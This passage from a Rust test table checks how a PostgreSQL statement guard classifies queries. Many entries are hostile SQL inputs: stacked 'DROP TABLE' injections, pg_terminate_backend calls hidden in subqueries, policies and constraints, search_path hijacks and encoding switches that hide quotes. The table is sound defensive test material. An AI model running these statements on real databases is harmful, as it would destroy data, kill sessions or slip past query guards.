    ("CLUSTER", Destr, Approve),
    ("CLUSTER VERBOSE", Destr, Approve),
    ("COMMENT ON TABLE orders IS 'the orders'", Ddl, Rows), // event triggers: measured
    ("CREATE TABLESPACE ts LOCATION '/tmp/ts'", Ddl, Allow), // cannot run in a transaction block; runs no code
    // ---- multi-statement messages: the strictest wins
    ("SELECT 1; DROP TABLE orders", Destr, Approve),
    ("SELECT 1;DROP TABLE orders;", Destr, Approve),
    ("SELECT 1; -- comment\nDROP TABLE orders", Destr, Approve),
    ("SELECT '; DROP TABLE orders; --'", Read, Allow), // inside a string literal: not a statement
    ("SELECT $$; DROP TABLE orders; $$", Read, Allow),
    ("SELECT $tag$ $$; DROP TABLE orders; $$ $tag$", Read, Allow),
    ("SELECT 1 /* ; DROP TABLE orders; */", Read, Allow),
    ("SELECT 1 /* nested /* ; */ DROP TABLE orders; */", Read, Allow), // nested comments close properly
    ("SELECT 1 /* nested /* */ */; DROP TABLE orders", Destr, Approve),
    ("SELECT \"; DROP TABLE orders; --\" FROM t", Read, Allow),
    ("BEGIN; DELETE FROM orders WHERE id = 1; COMMIT", Write, Approve), // transaction control + write: held whole
    ("BEGIN; DELETE FROM orders; COMMIT", Destr, Approve),
    ("DELETE FROM a WHERE id = 1; DELETE FROM b WHERE id = 2", Write, Rows), // the gate measures each on its own
    ("UPDATE t SET a = 1 WHERE id = 1; SELECT pg_terminate_backend(1)", Destr, Approve),
    ("SELECT 1;\n\n\tTRUNCATE orders", Destr, Approve),
    ("INSERT INTO t VALUES (1); ALTER SYSTEM SET fsync = off", Destr, Approve),
    ("SET search_path = evil, pg_catalog; SELECT lower('x')", Ddl, Rows), // lower() becomes unknown: measured
    ("SET search_path = evil, pg_catalog; CREATE VIEW vl AS SELECT lower('x')", Destr, Approve),
    // ---- whitespace and odd spellings
    ("  \n\t DROP\n\tTABLE\n orders  ", Destr, Approve),
    ("DROP/**/TABLE/**/orders", Destr, Approve),
    ("DROP TABLE \"orders\"", Destr, Approve),
    ("DROP TABLE U&\"\\006Frders\"", Destr, Approve),
    ("DROP TABLE \"ORDERS\"\"x\"", Destr, Approve),
    ("(SELECT 1)", Read, Allow),
    ("((SELECT pg_terminate_backend(1)))", Destr, Approve),
    // ---- refused unparsed
    ("SELEC 1", Destr, Deny),
    ("DROP TABLE", Destr, Deny),
    ("DELETE FROM orders WHERE", Destr, Deny),
    ("SELECT 'unterminated", Destr, Deny),
    ("SELECT $$unterminated", Destr, Deny),
    ("SELECT 1 /* unterminated comment", Destr, Deny),
    ("DROP TABLE orders\0", Destr, Deny),
    ("SELECT 1\0; DROP TABLE orders", Destr, Deny),
    ("EXECUTE never_prepared", Read, Deny), // unknown prepared statement: fail closed
    ("EXPLAIN ANALYZE EXECUTE never_prepared", Read, Deny),
    ("CREATE TABLE x AS EXECUTE never_prepared", Ddl, Deny),
    // ---- more places a call or a write can hide
    ("SELECT * FROM t1 UNION SELECT pg_terminate_backend(1)", Destr, Approve), // UNION arms are separate structs
    ("SELECT 1 EXCEPT (SELECT 2 INTERSECT SELECT pg_cancel_backend(1))", Destr, Approve),
    ("INSERT INTO t SELECT pg_terminate_backend(1)", Destr, Approve),
    ("SELECT * FROM pg_stat_activity, pg_terminate_backend(pid)", Destr, Approve),
    ("SELECT x FROM t WHERE x = ANY (SELECT pg_cancel_backend(1))", Destr, Approve),
    ("SELECT json_build_object('k', pg_terminate_backend(1))", Destr, Approve),
    ("SELECT 1 WHERE EXISTS (SELECT pg_terminate_backend(1))", Destr, Approve),
    ("UPDATE t SET a = 1 WHERE id IN (SELECT pg_terminate_backend(1)::int)", Destr, Approve),
    ("CREATE POLICY p ON t USING (pg_terminate_backend(1))", Destr, Approve), // runs on every read of t
    ("ALTER TABLE t ADD CONSTRAINT c CHECK (pg_terminate_backend(1))", Destr, Approve),
    ("CREATE INDEX ON t ((pg_terminate_backend(id)))", Destr, Approve),
    ("CREATE TABLE t (c int GENERATED ALWAYS AS (pg_terminate_backend(1)::int) STORED)", Destr, Approve),
    ("CREATE DOMAIN d AS int CHECK (pg_terminate_backend(VALUE))", Destr, Approve),
    ("COPY t FROM STDIN WHERE pg_terminate_backend(1)", Destr, Approve),
    ("CREATE MATERIALIZED VIEW mv AS SELECT pg_terminate_backend(1) WITH NO DATA", Destr, Approve),
    ("SELECT pg_stat_reset()", Destr, Approve),
    ("SELECT pg_catalog.pg_reload_conf()", Destr, Approve),
    ("SELECT lo_export(1, '/tmp/x')", Destr, Approve),
    ("SELECT * FROM dblink_get_result('c') AS t(a int)", Destr, Approve),
    ("ALTER ROLE alice RENAME TO bob", Destr, Approve), // ALTER ROLE in another grammar rule
    ("ALTER LARGE OBJECT 1 OWNER TO mallory", Destr, Approve),
    ("DELETE FROM t WHERE false", Destr, Approve), // row-independent: all or nothing, not evaluated
    ("VACUUM (FULL, ANALYZE) orders", Destr, Approve),
    ("VACUUM (FULL false) orders", Write, Allow),
    ("ANALYZE", Write, Rows),
    ("DISCARD TEMP", Write, Allow),
    ("DISCARD PLANS", Read, Allow),
    ("LOCK orders", Write, Allow),
    ("CREATE TEMP TABLE x (id int)", Ddl, Rows),
    ("ALTER SEQUENCE s RESTART", Ddl, Rows),
    ("CREATE TABLE p1 PARTITION OF orders FOR VALUES IN (1)", Ddl, Rows),
    ("ALTER TABLE orders DETACH PARTITION p1", Ddl, Rows), // the rows stay in p1
    ("ALTER TABLE orders SET SCHEMA archive", Ddl, Rows),
    ("ALTER DATABASE shop RENAME TO shop_old", Ddl, Rows),
    ("SELECT * FROM t TABLESAMPLE bernoulli (10)", Read, Allow),
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r", Read, Allow),
    ("DELETE FROM t WHERE id = ANY($1)", Write, Rows),
    ("INSERT INTO t DEFAULT VALUES", Write, Rows),
    ("PREPARE p AS SELECT 1; EXECUTE p; DEALLOCATE p", Read, Allow),
    ("START TRANSACTION; SET TRANSACTION READ WRITE; COMMIT", Read, Allow),
    ("ROLLBACK PREPARED 'tx1'", Destr, Approve),
    ("SET LOCAL statement_timeout = 0", Read, Allow),
    ("RESET statement_timeout", Read, Allow),
    ("SET CONSTRAINTS ALL DEFERRED", Read, Allow),
    ("SET SESSION search_path TO evil, pg_catalog", Ddl, Allow),
    ("SELECT current_setting('search_path')", Read, Allow),
    ("SELECT set_config('search_path', 'evil,PG_CATALOG', false)", Ddl, Rows),
    // ---- client encodings: the guard reads UTF-8; in GBK/SJIS/BIG5 a quote can hide in a character
    ("SET client_encoding = 'UTF8'", Read, Allow),
    ("SET NAMES 'utf-8'", Read, Allow),
    ("SET client_encoding TO 'SJIS'", Destr, Approve),
    ("SET NAMES 'GBK'", Destr, Approve),
    ("SELECT set_config('client_encoding', 'BIG5', false)", Destr, Approve),
    ("SET standard_conforming_strings = off", Write, Allow), // the session then lexes both ways
    // ---- empty
    ("", Read, Allow),
    (";", Read, Allow),
    ("-- only a comment", Read, Allow),
];
